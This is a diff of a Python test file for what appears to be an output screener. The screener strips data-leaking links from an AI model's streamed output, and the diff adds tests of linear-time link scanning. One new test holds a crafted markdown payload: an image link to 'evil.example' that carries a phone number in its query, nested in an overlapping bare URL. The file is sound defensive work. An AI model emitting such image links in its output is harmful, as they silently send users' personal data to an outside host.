@@ -237,17 +237,55 @@ def test_a_stream_holds_every_spelling_until_it_is_judged(link: str) -> None:
     assert "evil.example" not in (st_.feed(link) + st_.flush()).lower()
 
 
-@pytest.mark.parametrize(
-    "text",
-    ["[x](" * 1000, "[x](a" * 1000, "[x]: " * 1000, "[" * 3000, "[a" * 2000, "![a [b] c" * 500],
-)
-def test_a_stream_of_link_beginnings_takes_linear_time(text: str) -> None:
-    import time
-
+def _links_work(text: str) -> int:
+    """Characters the link patterns read while ``text`` streams a character at a time."""
     s = _screen(system_prompt_leak="off", new_personal="off")
-    t = time.perf_counter()
+    read = 0
+    links = s._links
+
+    def counting(window: str) -> list[tuple[int, int, str | None]]:
+        nonlocal read
+        read += len(window)
+        return links(window)
+
+    s._links = counting  # type: ignore[method-assign]
     st_ = OutputStream(s)
     for ch in text:
         st_.feed(ch)
     st_.flush()
-    assert time.perf_counter() - t < 5, text[:10]
+    return read
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[x](" * 1000,
+        "[x](a" * 1000,
+        "[x]: " * 1000,
+        "[" * 3000,
+        "[a" * 2000,
+        "![a [b] c" * 500,
+        "<img " * 800,
+        "https://a" * 450,
+    ],
+)
+def test_a_stream_of_link_beginnings_is_read_about_as_often_as_plain_text(text: str) -> None:
+    """Openers that never close are read by the link patterns a bounded number of times
+    per character, as plain text of the same length is (no look of everything held every
+    few characters)."""
+    plain = _links_work("あいうえお" * (len(text) // 5))
+    assert _links_work(text) <= 3 * plain, text[:10]
+
+
+def test_a_link_overlapping_a_removed_one_goes_whole() -> None:
+    """A bare URL that runs into the ``!`` of an image after it: removing the URL alone
+    left ``[図](https://evil…?d=…)``, a working link carrying the number (found by the
+    joints' property test)."""
+    s = _screen(system_prompt_leak="off", new_personal="off")
+    text = "[案内](https://evil.example/c?session=![図](https://evil.example/a.png?d=09012345678)"
+    out, found = s.screen(text)
+    assert "evil.example" not in out and "09012345678" not in out, out
+    assert {f.detail for f in found} == {"evil.example"}
+    streamed = OutputStream(s)
+    got = "".join(streamed.feed(ch) for ch in text) + streamed.flush()
+    assert got == out
